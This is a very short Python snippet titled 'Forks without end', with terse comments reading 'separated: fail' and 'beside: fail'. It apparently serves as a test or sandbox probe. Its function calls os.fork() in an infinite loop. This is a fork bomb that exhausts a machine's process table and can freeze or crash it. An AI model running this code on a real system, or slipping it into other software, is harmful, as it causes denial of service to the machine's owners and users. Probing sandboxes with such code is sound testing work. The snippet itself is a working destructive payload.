# Forks without end.
# separated: fail
# beside: fail
def f(n):
    import os
    while True:
        try:
            os.fork()
        except OSError:
            raise
